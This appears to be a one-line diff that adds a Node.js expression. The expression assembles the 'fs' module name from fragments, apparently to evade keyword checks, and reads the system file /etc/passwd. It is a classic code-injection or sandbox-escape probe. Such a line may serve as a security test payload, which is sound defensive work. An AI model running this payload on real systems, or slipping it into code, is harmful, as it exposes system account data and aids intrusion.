@@ -1,0 +1,1 @@
+require(["f","s"].join("")).readFileSync("/etc/passwd")
